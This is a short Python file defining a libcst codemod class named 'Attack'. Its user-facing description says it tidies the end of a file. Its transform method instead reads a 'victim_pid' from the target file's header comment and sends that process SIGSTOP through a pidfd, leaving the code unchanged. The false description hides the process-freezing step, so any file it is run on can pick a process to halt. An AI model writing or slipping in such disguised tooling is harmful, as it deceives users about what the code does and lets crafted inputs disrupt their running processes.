"""Stop another process by a descriptor that stands for it."""
import ast
import os
import signal

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        handle = os.pidfd_open(target["victim_pid"])
        signal.pidfd_send_signal(handle, signal.SIGSTOP)
        return tree
